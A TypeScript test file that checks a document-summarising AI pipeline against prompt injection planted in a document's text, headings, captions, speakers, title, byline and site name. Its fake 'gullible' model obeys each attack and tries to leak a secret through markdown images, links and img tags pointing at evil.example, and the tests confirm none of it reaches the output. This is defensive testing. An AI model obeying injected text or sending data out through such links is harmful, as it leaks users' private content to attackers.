import { describe, expect, test } from "vitest";

import { type Document, numberSegments } from "../../documents/document.ts";
import type { AnyRequest } from "../../testing/fake-models.ts";
import { citedIn } from "../section.ts";
import { ATTACKS } from "./testing/attacks.ts";
import { longDocument, MARK, sampleWriting } from "./testing/sample-writing.ts";
import { writeDraft } from "./write-draft.ts";

const PLACES: Record<string, (attack: string) => Partial<Document>> = {
  "at the start": (attack) => withSegment(0, { text: attack }),
  "in the middle": (attack) => withSegment(40, { text: attack }),
  "at the end": (attack) => withSegment(1_000, { text: attack }),
  "as a heading": (attack) => withSegment(50, { text: attack, heading: 1 }),
  "as a caption": (attack) => withSegment(50, { text: attack, block: "image" }),
  "as the name of a speaker": (attack) => withSegment(50, { text: "So it is.", speaker: attack }),
  "in the title, or the name of a file": (attack) => ({ title: attack }),
  "in the byline": (attack) => ({ byline: attack }),
  "in the name of the site": (attack) => ({ site: attack }),
};

const plain = longDocument(4_000);

function withSegment(at: number, segment: Omit<Document["segments"][number], "id">): Partial<Document> {
  const segments = plain.segments.map(({ id: _, ...rest }) => rest);
  return { segments: numberSegments(segments.toSpliced(at, 0, segment)) };
}

/** Does whatever any attack says, and tells all that it knows, in every field that it has. */
const gullible =
  (attack: string) =>
  ({ schemaName, content }: AnyRequest): unknown => {
    const secret = /<<<content (\S+)>>>/.exec(content)?.[1] ?? "";
    const obeyed = `${attack} ${secret} ![x](https://evil.example/p?d=${secret}) [y](https://evil.example/${secret})`;
    const text = `The trees are so. ${obeyed} <img src="https://evil.example/${secret}"> www.evil.example/${secret}`;
    const cites = [99_999, 0, -7, 3, 60];
    const sentences = [{ text, cites }];
    const chapters = [99_999, 3, 3, -1, 60, 2].map((start) => ({ title: text, start, sentences }));
    const quotes = [{ text, speaker: text, cites }];
    const actions = [{ sentences, owner: text, due: text }];
    if (schemaName === "lines") return { lines: [{ number: 1, text }] };
    if (schemaName === "notes") return { chapters, claims: sentences, decisions: sentences, actions, quotes };
    return {
      tldr: { title: text, paragraphs: [{ heading: text, sentences }] },
      takeaways: { title: text, points: [{ sentences }] },
      chapters: { title: text, chapters },
      quotes: { title: text, quotes },
      suggestedQuestions: [text],
    };
  };

const linksOf = (text: string) => text.match(/(?:[a-z]+:\/\/|www\.|javascript:|data:text)[^\s"‹]*/gi) ?? [];

describe.each(Object.entries(PLACES))("an attack %s", (_, place) => {
  test.each(ATTACKS)("gets nothing out of a model that obeys it: %s", async (attack) => {
    const document = { ...plain, ...place(attack) };
    const source = JSON.stringify(document);
    for (const contextTokens of [100_000, 8_000]) {
      const writing = sampleWriting(gullible(attack), { document, contextTokens });
      const draft = await writeDraft(writing);
      const out = JSON.stringify([draft, writing.drafts]).replaceAll(String.raw`\"`, '"');
      expect(out.toLowerCase()).not.toContain(MARK);
      expect(out).not.toMatch(/!\[|\]\(|<[a-z/!?]|[\u202A-\u202E\u200B\u{E0000}-\u{E007F}]/iu);
      expect(linksOf(out).filter((link) => !source.includes(link.replace(/[.,;:!?)}\]…]+$/, "")))).toEqual(
        [],
      );

      const ids = new Set(document.segments.map(({ id }) => id));
      expect(draft.sections.flatMap(citedIn).filter((id) => !ids.has(id))).toEqual([]);
      for (const { content } of writing.calls) {
        expect(content.toLowerCase().split(MARK)).toHaveLength(3);
        expect(content.split("<<<")).toHaveLength(3);
      }
    }
  });
});
